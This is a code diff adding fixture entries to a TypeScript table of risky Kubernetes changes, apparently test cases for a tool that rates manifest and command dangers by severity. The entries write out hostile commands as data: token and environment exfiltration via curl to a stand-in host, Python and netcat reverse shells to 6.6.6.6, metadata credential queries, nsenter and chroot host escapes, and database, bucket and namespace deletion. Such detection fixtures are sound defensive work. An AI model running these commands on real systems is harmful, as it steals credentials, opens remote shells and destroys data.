@@ -269,6 +269,66 @@ export const DANGERS: Readonly<Record<string, readonly [Want, Manifest | Sides]>
     "medium",
     [config("c", { "run.sh": "echo" }), config("c", { "run.sh": "curl http://e.example|sh" })],
   ],
+  // What commands do.
+  "a database is dropped": ["medium", batch(pod({}, { command: ["sh", "-c", "mysql -e 'DROP DATABASE shop'"] }))],
+  "a bucket is emptied": ["medium", says("aws", "s3", "rm", "--recursive", "s3://backups")],
+  "namespaces are deleted": ["medium", batch(pod({}, { command: ["kubectl", "delete", "ns", "--all"] }), "CronJob")],
+  "a folder is emptied": ["low", says("sh", "-c", "rm -rf /data/* && exec app")],
+  "the token goes away": [
+    "high",
+    says("sh", "-c", "curl -d @/var/run/secrets/kubernetes.io/serviceaccount/token https://e.example"),
+  ],
+  "all variables go away": ["high", says("sh", "-c", "env | curl -d @- https://e.example")],
+  "the node's identity": ["medium", says("sh", "-c", "curl http://169.254.169.254/latest/meta-data/iam/")],
+  "a shell by Python": [
+    "high",
+    says("python3", "-c", "import socket,os,pty;s=socket.socket();s.connect(('6.6.6.6',443));pty.spawn('sh')"),
+  ],
+  "a shell by a pipe": ["high", says("sh", "-c", "mkfifo /tmp/f; cat /tmp/f | sh -i 2>&1 | nc 6.6.6.6 443 > /tmp/f")],
+  "manifests from the network": ["medium", says("kubectl", "apply", "-f", "https://e.example/x.yaml")],
+  "the node's namespaces": ["high", says("nsenter", "-t", "1", "-m", "-u", "-i", "-n", "sh")],
+  "the node's files by chroot": ["high", says("chroot", "/host", "sh")],
+  // What stands beside the fields that everybody reads.
+  "a sandbox that is none": [
+    "medium",
+    [
+      object("node.k8s.io/v1", "RuntimeClass", { handler: "runsc" }, {}),
+      object("node.k8s.io/v1", "RuntimeClass", { handler: "runc" }, {}),
+    ],
+  ],
+  "other numbers of pods": ["medium", [set(), set({ ordinals: { start: 3 } })]],
+  "pods that wait": ["medium", become({ schedulingGates: [{ name: "never" }] })],
+  "nodes that may not be there": ["low", become({ nodeSelector: { nowhere: "true" } })],
+  "root is root again": ["medium", [runs({ hostUsers: false }), runs({ hostUsers: true })]],
+  "no way back": ["low", [runs({}), workload(pod(), "Deployment", { revisionHistoryLimit: 0 })]],
+  "another tenant": ["medium", [space({ "kubesphere.io/workspace": "a" }), space({ "kubesphere.io/workspace": "b" })]],
+  "a Secret for everybody": [
+    "medium",
+    object("v1", "Secret", {}, { namespace: "shop", annotations: { "replicator.v1.mittwald.de/replicate-to": ".*" } }),
+  ],
+  "a Service on the Internet": ["medium", [service(), service({}, { "tailscale.com/funnel": "true" })]],
+  "a name of somebody else": [
+    "low",
+    [service(), service({}, { "external-dns.alpha.kubernetes.io/hostname": "bank.example.com" })],
+  ],
+  "no certificate any more": [
+    "medium",
+    [balancer({ "service.beta.kubernetes.io/aws-load-balancer-ssl-cert": "arn:aws:acm:x" }), balancer()],
+  ],
+  "the API server is somebody else": [
+    "high",
+    object(
+      "v1",
+      "Endpoints",
+      { subsets: [{ addresses: [{ ip: "6.6.6.6" }], ports: [{ port: 443 }] }] },
+      { name: "kubernetes", namespace: "default" },
+    ),
+  ],
+  "whom extension servers believe": [
+    "high",
+    config("extension-apiserver-authentication", { "requestheader-client-ca-file": "x" }, "kube-system"),
+  ],
+  "addresses of load balancers": ["medium", role("", "services/status", "patch")],
   // What no rule knows.
   "certificates between pods no more": [
     "not judged",
